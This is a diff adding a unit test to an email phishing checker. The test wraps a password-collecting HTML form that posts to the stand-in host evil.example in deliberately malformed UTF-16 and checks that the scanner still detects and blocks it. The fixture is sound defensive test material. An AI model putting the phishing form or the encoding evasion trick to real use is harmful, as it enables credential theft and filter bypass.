@@ -308,6 +308,35 @@ TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
   EXPECT_EQ(check.verdict.action, Action::kBlock);
 }
 
+TEST_F(MessageCheckerTest, Utf16AttachmentWithABrokenUnitIsStillRead) {
+  // A lone low surrogate, then an odd byte at the end: invalid UTF-16
+  // that a browser shows as U+FFFD. Read as raw bytes instead, the page
+  // had no form to find.
+  const std::string page =
+      "<html><body><form action=\"https://evil.example/p\">"
+      "<input type=password name=pw></form></body></html>";
+  std::string utf16 = "\xFF\xFE";
+  for (char c : page) {
+    utf16.push_back(c);
+    utf16.push_back('\0');
+    if (c == '>') utf16.append("\x00\xDC", 2);
+  }
+  utf16.push_back('x');
+  const std::string message = absl::StrCat(
+      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
+      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
+      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
+      "Content-Type: application/octet-stream\r\n"
+      "Content-Disposition: attachment; filename=\"scan\"\r\n"
+      "Content-Transfer-Encoding: base64\r\n\r\n",
+      absl::Base64Escape(utf16), "\r\n--x--\r\n");
+  const MessageCheck check = Check(message);
+  const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
+  ASSERT_NE(form, nullptr);
+  EXPECT_EQ(form->url, "https://evil.example/p");
+  EXPECT_EQ(check.verdict.action, Action::kBlock);
+}
+
 // An HTML attachment around `page`, as the campaign sent its own.
 std::string MessageWithPage(const std::string& page) {
   return absl::StrCat(
